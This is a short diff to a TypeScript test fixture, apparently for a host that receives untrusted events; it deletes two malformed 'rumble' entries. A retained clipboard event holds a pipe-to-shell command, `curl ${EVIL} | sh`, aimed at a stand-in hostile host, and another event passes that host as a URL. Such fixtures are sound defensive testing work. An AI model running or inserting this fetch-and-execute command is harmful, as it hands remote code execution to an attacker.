@@ -27,8 +27,6 @@ const CURSORS: readonly HostCursor[] = [
 
 const EVENTS: readonly HostEvent[] = [
   {kind: 'clipboard', text: `curl ${EVIL} | sh`},
-  {kind: 'rumble', index: 0, strong: Infinity, weak: NaN},
-  {kind: 'rumble', index: -1, strong: 1, weak: 1},
   {kind: 'message', message: {event_type: 'openURL', payload: {url: EVIL, result: 'error', error: EVIL}}},
   {
     kind: 'message',
